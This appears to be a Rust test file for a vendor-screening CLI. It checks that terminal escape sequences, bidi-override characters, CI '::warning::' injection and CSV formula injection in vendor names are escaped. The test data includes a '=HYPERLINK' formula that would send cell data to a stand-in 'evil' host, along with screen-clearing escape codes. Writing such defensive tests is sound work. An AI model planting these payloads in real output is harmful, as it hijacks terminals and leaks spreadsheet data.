//! What a name may hold harms neither a terminal nor a spreadsheet.

use super::{file, index_of, run, stderr, stdout};

#[test]
fn nothing_of_a_name_reaches_the_terminal_that_it_would_obey() {
    let index = index_of("obeyed", "Zorblax \u{1b}]0;PWNED\u{7}\u{1b}[31m\u{1b}[2J\u{9b}2J \u{202e}Trading\u{7f}");
    let unseen = |text: &str| text.chars().any(vendor_screener::party::is_unseen);
    for args in [
        &["screen", "Zorblax Trading", "--threshold", "40"][..],
        &["screen", "Zorblax \u{1b}[2J\u{202e}"],
        &["restrictions", "own-obeyed-\u{1b}[2J"],
        &["index", "inspect"],
        &["lists", "status"],
    ] {
        let output = run(&[args, &["--index", &index]].concat());
        assert!(!unseen(stdout(&output)) && !unseen(stderr(&output)), "{args:?}: {output:?}");
    }
    let output = run(&["screen", "Zorblax \u{1b}[2J", "--index", &index]);
    assert!(stdout(&output).contains("Zorblax \\u{1b}[2J"), "{}", stdout(&output));
    for args in
        [&["lists", "status", "no\u{1b}[2J\n::warning::such"][..], &["screen", "a", "--index", "\u{9b}2J\u{2066}"]]
    {
        let output = run(args);
        assert!(!unseen(stderr(&output)) && !stderr(&output).contains("\n::warning"), "{args:?}: {output:?}");
        assert!(stderr(&output).contains("\\u{"));
    }
}

#[test]
fn no_cell_of_a_list_is_a_formula_in_any_csv() {
    let index = index_of("formula", "=HYPERLINK(\"\"http://evil/?\"\"&A1;\"\"x\"\") Krandor Works");
    for args in [
        &["screen", "Krandor Works", "--threshold", "40"][..],
        &["restrictions", "Krandor Works"],
        &["lists", "status"],
    ] {
        let output = run(&[args, &["--index", &index, "--format", "csv"]].concat());
        let mut cells =
            csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(output.stdout.as_slice());
        let cells: Vec<String> =
            cells.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
        assert!(!cells.iter().any(|cell| cell.trim_start().starts_with('=')), "{args:?}: {cells:?}");
    }
    let output = run(&["screen", "Krandor Works", "--threshold", "40", "--index", &index, "--format", "csv"]);
    assert!(stdout(&output).contains("'=HYPERLINK"), "{}", stdout(&output));
}

#[test]
fn the_cells_of_a_table_are_no_formulas_unless_they_are_to_stay_as_they_are() {
    let table = file("formulas.csv", b"vendor,note\nAcme Bakery,=1+1\n");
    let output = run(&["batch", &table]);
    assert!(stdout(&output).contains("Acme Bakery,'=1+1,none"), "{}", stdout(&output));
    let output = run(&["batch", &table, "--raw"]);
    assert!(stdout(&output).contains("Acme Bakery,=1+1,none"), "{}", stdout(&output));
}
